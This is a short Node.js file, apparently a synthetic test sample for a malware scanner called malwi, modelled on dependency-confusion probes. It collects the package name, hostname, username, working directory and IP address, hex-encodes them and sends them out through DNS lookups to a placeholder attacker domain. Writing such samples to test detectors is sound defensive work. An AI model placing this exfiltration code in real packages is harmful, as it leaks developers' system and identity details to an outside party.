// SYNTHETIC, DEFANGED malwi validation sample - modelled on dependency-confusion probes (2021 onward, DNS variant); never run.
// Packs hostname, user, cwd and package name into hex DNS labels and resolves them, so the
// data reaches the attacker's name server even where HTTP egress is blocked.
const os = require('os');
const dns = require('dns');
const pkg = require('./package.json');

const suffix = 'oast.example.invalid';
const info = [
  pkg.name,
  os.hostname(),
  os.userInfo().username,
  process.cwd(),
  (os.networkInterfaces().eth0 || [{}])[0].address || '-'
].join('|');

const hex = Buffer.from(info).toString('hex');
const chunks = hex.match(/.{1,60}/g) || [];
const id = Math.random().toString(36).slice(2, 8);

chunks.forEach((chunk, i) => {
  const name = `${chunk}.${i}.${id}.${suffix}`;
  dns.lookup(name, () => {});
});
